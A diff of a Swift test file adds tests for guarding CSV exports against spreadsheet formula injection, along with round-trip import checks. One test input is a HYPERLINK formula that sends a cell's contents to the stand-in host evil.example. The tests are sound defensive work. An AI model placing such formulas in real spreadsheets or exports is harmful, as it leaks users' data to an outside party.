@@ -30,9 +30,46 @@ import Testing
             }, at: morning)
         let before = try store.everybody, file = try store.exported()
         let report = try store.take(file, in: directory)
-        #expect(report.badRows == [])
+        #expect(report.bad == [])
         #expect(report.unknownColumns == [])
         #expect((report.created, report.updated, report.unchanged) == (0, 0, before.count))
+        #expect(try store.everybody == before)
+        #expect(try store.exported() == file)
+    }
+
+    /// As spreadsheets read it: a text is a formula by its first character.
+    @Test(arguments: [
+        ("", ""), ("x", "x"), ("=1", "'=1"), ("+81", "'+81"), ("-", "'-"), ("@a", "'@a"), ("\t1", "'\t1"), ("\r1", "'\r1"), ("\n1", "'\n1"), (" =1", "' =1"),
+        ("　＝1", "'　＝1"), ("'=1", "''=1"), ("'", "'"), ("'x", "'x"), ("1=1", "1=1"), ("㈱=", "㈱="),
+    ]) func aFormulaIsGuardedAndComesBack(text: String, cell: String) {
+        #expect(FormulaGuard.guarded(text) == cell)
+        #expect(FormulaGuard.unguarded(cell) == text)
+    }
+
+    @Test func noCellIsAFormula() throws {
+        let directory = try StateDirectory(), store = try directory.store()
+        let texts = [
+            "=HYPERLINK(\"http://evil.example/\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "'=1", "''=1", "' =1", "＝１", "'", "''", "'x", "-", "'-", "x=1",
+        ]
+        for text in texts {
+            _ = try store.create(
+                fields("n" + text, phones: ["+819012345678", "+81312345678", "+819000000001", "+12025550123"]) {
+                    $0.name = text
+                    $0.externalID = text; $0.kana = text; $0.company = text; $0.owner = "-1"; $0.address = text + "\n" + text; $0.tags = [text, "b"]
+                    $0.cautions = [text]; $0.doNotPair = ["-"]; $0.lineID = text; $0.custom = ["plan": text]
+                }, at: morning)
+        }
+        let file = try store.exported()
+        var parser = CSVParser(separator: UInt8(ascii: ",")), cells: [String] = []
+        try parser.feed(file.dropFirst(3)) { cells += $0.fields }
+        #expect(cells.count == (texts.count + 1) * 17)
+        for cell in cells {
+            let first = cell.drop { $0 == " " || $0 == "\u{3000}" }.first
+            #expect(first.map { "=+-@＝＋－＠\t\r\n".contains($0) } != true, "\(cell)")
+        }
+        let before = try store.everybody, report = try store.take(file, in: directory)
+        #expect(report.bad == [])
+        #expect((report.created, report.updated, report.unchanged) == (0, 0, texts.count), "\(report.warnings)")
         #expect(try store.everybody == before)
         #expect(try store.exported() == file)
     }
@@ -79,7 +116,7 @@ import Testing
         }
         let before = try store.everybody, file = try store.exported()
         let report = try store.take(file, in: directory)
-        #expect(report.badRows == [])
+        #expect(report.bad == [])
         #expect((report.created, report.updated, report.unchanged) == (0, 0, 300))
         #expect(try store.everybody == before)
         #expect(try store.exported() == file)
